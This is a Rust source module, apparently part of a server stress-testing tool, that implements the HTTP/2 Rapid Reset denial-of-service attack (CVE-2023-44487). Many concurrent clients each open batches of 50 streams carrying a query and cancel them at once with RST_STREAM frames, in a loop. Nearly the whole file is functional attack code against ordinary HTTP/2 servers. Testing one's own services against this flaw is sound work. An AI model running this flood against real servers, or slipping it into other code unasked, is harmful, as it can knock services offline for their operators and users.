//! HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487).

use crate::Aim;
use crate::attack::{Attack, Class};
use crate::http2::{Http2, frame, kind};

/// Streams that are opened and reset per write.
const AT_ONCE: usize = 50;
/// The error code CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// The attack.
pub(super) const ATTACK: Attack = Attack::new(
    Class::Client,
    "HTTP/2, rapid reset",
    "streams that are reset as soon as they are opened",
    |aim| Box::pin(run(aim)),
);

async fn run(aim: Aim) {
    let client = async |aim: Aim, number: u64| {
        let mut http2 = Http2::connect(&aim, &[]).await?;
        let mut round = 0;
        while aim.goes_on(round) {
            let mut bytes = Vec::new();
            for _ in 0..AT_ONCE {
                let stream = http2.stream()?;
                let query = format!("{{ a{number}: districts {{ name dggi {{ rank }} }} }}");
                bytes.extend(http2.request(stream, &crate::wire::operation(&query)));
                bytes.extend(frame(kind::RST_STREAM, 0, stream, &CANCEL));
            }
            http2.send(&bytes).await?;
            tokio::task::yield_now().await;
            round += 1;
        }
        Ok(())
    };
    aim.crowd(client).await;
}
